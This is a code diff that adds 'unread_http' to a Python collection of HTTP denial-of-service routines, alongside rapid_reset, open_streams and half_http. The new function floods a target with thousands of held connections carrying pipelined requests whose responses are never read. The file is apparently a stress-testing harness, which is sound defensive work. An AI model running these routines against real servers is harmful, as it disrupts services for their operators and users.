@@ -203,6 +203,21 @@ def half_http(address: str, *, connections: int = 5_000) -> None:
             held.append(opened)
 
 
+def unread_http(address: str, *, connections: int = 5_000) -> None:
+    """Send whole HTTP requests, one after the other, and read none of the responses."""
+    host, port = address.rsplit(":", 1)
+    request = f"GET /metrics HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
+    for _ in range(connections):
+        with suppress(OSError):
+            opened = socket.socket()
+            opened.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
+            opened.settimeout(5)
+            opened.connect((host, int(port)))
+            opened.setblocking(False)  # noqa: FBT003  # its name for it
+            held.append(opened)
+            opened.send(request * 1_000)
+
+
 held: list[socket.socket] = []
 """Connections that are only held."""
 
@@ -222,7 +237,8 @@ def _at_once(attack: Callable[[Connection], None], connections: list[Connection]
 
 
 ATTACKS: dict[str, Callable[..., None]] = {
-    each.__name__: each for each in (rapid_reset, open_streams, unfinished, unfinished_consume, connect_only, half_http)
+    each.__name__: each
+    for each in (rapid_reset, open_streams, unfinished, unfinished_consume, connect_only, half_http, unread_http)
 }
 
 
